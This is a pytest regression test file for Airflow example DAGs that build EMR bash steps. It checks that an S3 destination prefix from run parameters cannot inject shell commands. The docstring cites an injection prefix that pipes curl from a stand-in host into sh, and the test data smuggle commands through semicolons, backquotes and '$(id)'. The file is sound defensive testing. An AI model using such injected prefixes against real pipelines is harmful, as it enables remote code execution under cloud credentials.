"""
The example DAGs' job step writes to the run's prefix whatever characters the prefix holds, and runs none of them.

The step is ``bash -c`` through ``command-runner.jar``, which runs the step's ``Args`` as the command and its
arguments (Amazon EMR Release Guide, "Run commands and scripts on an Amazon EMR cluster"; Amazon EMR API Reference,
"HadoopStepConfig": ``Args``, "the list of command line arguments"). The prefix comes from the run's params
(``dag_run.conf``; in ``emrfs_xacct_many_partners`` each ``partners[i].destination_prefix``), and the provider's
location check refuses only ``*``, ``?`` and ``$`` in it. The examples put it into the script's text: a prefix
``s3://partner-results/acme;curl http://x|sh;/`` ran ``curl`` on the primary node as the instance profile's role, and
``acme corp/`` was split at its space (Airflow's BashOperator docs warn the same of ``dag_run.conf``). Here each
example's step, rendered as its task renders it, runs locally with a ``hadoop`` of the test's that records its
arguments: it must get the whole URI as one argument, and nothing else may run.
"""

from __future__ import annotations

import os
import runpy
import subprocess
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import pytest
from airflow.providers.common.compat.sdk import AirflowFailException

from airflow_provider_emrfs_xacct.macros import run_stamp
from devstack.testing import ROOT
from tests.dags.test_airflow_native import airflow_dag_run

if TYPE_CHECKING:
    from pathlib import Path

#: A ``hadoop`` that records its arguments (NUL-separated) and what it reads on stdin.
HADOOP_STUB = """#!/bin/bash
printf '%s\\0' "$@" > "$HADOOP_ARGV"
cat > "$HADOOP_STDIN"
"""
RUN_ID, RUN_AFTER = "manual__2026-03-01T00:00:00+00:00", "2026-03-01T00:00:00"
#: Prefixes a run may give (``{marker}``: a file the test watches): shell code after a ``;`` and in backquotes, a
#: space, quotes. A ``$(...)`` is refused before the step is built (``under_prefix``: the provider refuses ``$``).
PREFIXES = [
    "s3://partner-results/acme;touch {marker};/",
    "s3://partner-results/acme`touch {marker}`/",
    "s3://partner-results/acme corp/",
    "s3://partner-results/o'brien/",
    's3://partner-results/say "hi"/',
]


def rendered_args(dag_file: str, dag_id: str, prefix: str, dag_run: Any) -> list[str]:
    """The job step's ``Args`` as the example's task renders them for a run giving ``prefix``."""
    dag = runpy.run_path(str(ROOT / "dags" / dag_file), run_name="__write_steps__")["dag"]
    assert dag.dag_id == dag_id
    if dag_id == "emrfs_xacct_many_partners":
        # The steps are a task's return value: its function, called with the partner's prefix and the run's stamp.
        steps = dag.get_task("export_partner.write_steps").python_callable(prefix, run_stamp(dag_run))
    else:
        task = dag.get_task("write_results")
        context: Any = {
            "dag": dag,
            "task": task,
            "params": {"destination_prefix": prefix},
            "dag_run": dag_run,
            "ti": SimpleNamespace(xcom_pull=lambda *_, **__: "j-0123456789ABC", map_index=-1),  # the cluster's id
        }
        task.render_template_fields(context)
        steps = task.steps
    [step] = steps
    assert step["HadoopJarStep"]["Jar"] == "command-runner.jar"
    args = step["HadoopJarStep"]["Args"]
    assert all(isinstance(arg, str) for arg in args), args
    return list(args)


@pytest.mark.parametrize("given", PREFIXES)
@pytest.mark.parametrize(
    ("dag_file", "dag_id"),
    [
        ("emrfs_xacct_partner_export.py", "emrfs_xacct_partner_export"),
        ("emrfs_xacct_bucket_policy_export.py", "emrfs_xacct_bucket_policy_export"),
        ("emrfs_xacct_many_partners.py", "emrfs_xacct_many_partners"),
    ],
)
def test_the_job_step_writes_the_whole_uri_as_one_argument_and_runs_nothing_of_the_prefix(
    tmp_path: Path, dag_file: str, dag_id: str, given: str
) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    hadoop = bin_dir / "hadoop"
    hadoop.write_text(HADOOP_STUB)
    hadoop.chmod(0o755)
    marker, argv, stdin = tmp_path / "pwned", tmp_path / "argv", tmp_path / "stdin"
    prefix = given.format(marker=marker)
    dag_run = airflow_dag_run(dag_id, RUN_ID, RUN_AFTER)
    stamp = run_stamp(dag_run)
    args = rendered_args(dag_file, dag_id, prefix, dag_run)
    assert args[:2] == ["bash", "-c"], args
    environment = {
        **os.environ,
        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        "HADOOP_ARGV": str(argv),
        "HADOOP_STDIN": str(stdin),
    }

    result = subprocess.run(
        args, cwd=tmp_path, env=environment, capture_output=True, text=True, timeout=30, check=False
    )

    assert not marker.exists()  # nothing of the prefix ran
    assert result.returncode == 0, result.stderr
    recorded = [word.decode() for word in argv.read_bytes().split(b"\0")[:-1]]
    assert recorded == ["fs", "-put", "-f", "-", f"{prefix}{stamp}/results.txt"]  # one argument, the whole URI
    assert stdin.read_text() == f"results for {stamp}\n"


@pytest.mark.parametrize("given", ["s3://partner-results-b/exports", "s3://partner-results-b/exports/"])
@pytest.mark.parametrize(
    ("dag_file", "dag_id"),
    [
        ("emrfs_xacct_partner_export.py", "emrfs_xacct_partner_export"),
        ("emrfs_xacct_bucket_policy_export.py", "emrfs_xacct_bucket_policy_export"),
        ("emrfs_xacct_many_partners.py", "emrfs_xacct_many_partners"),
    ],
)
def test_the_job_writes_under_the_granted_prefix_with_or_without_its_trailing_slash(
    dag_file: str, dag_id: str, given: str
) -> None:
    """
    The provider grants, verifies and probes ``exports/*`` for ``s3://b/exports`` (it adds the slash): the job's object
    must lie under ``exports/``, not at ``exports20261201T…/results.txt``, which no grant allows (an implicit deny: IAM
    User Guide, "The difference between explicit and implicit denies").
    """
    dag_run = airflow_dag_run(dag_id, RUN_ID, RUN_AFTER)

    uri = rendered_args(dag_file, dag_id, given, dag_run)[-1]

    assert uri == f"s3://partner-results-b/exports/{run_stamp(dag_run)}/results.txt"


@pytest.mark.parametrize(
    ("dag_file", "dag_id"),
    [
        ("emrfs_xacct_partner_export.py", "emrfs_xacct_partner_export"),
        ("emrfs_xacct_bucket_policy_export.py", "emrfs_xacct_bucket_policy_export"),
        ("emrfs_xacct_many_partners.py", "emrfs_xacct_many_partners"),
    ],
)
def test_a_prefix_the_provider_refuses_fails_the_step_before_it_runs(dag_file: str, dag_id: str) -> None:
    """A ``$`` the grants refuse (``parse_s3_location``) is refused while the step renders, naming the prefix."""
    dag_run = airflow_dag_run(dag_id, RUN_ID, RUN_AFTER)

    with pytest.raises(AirflowFailException, match=r"under_prefix\('s3://partner-results/acme\$\(id\)/'\)"):
        rendered_args(dag_file, dag_id, "s3://partner-results/acme$(id)/", dag_run)
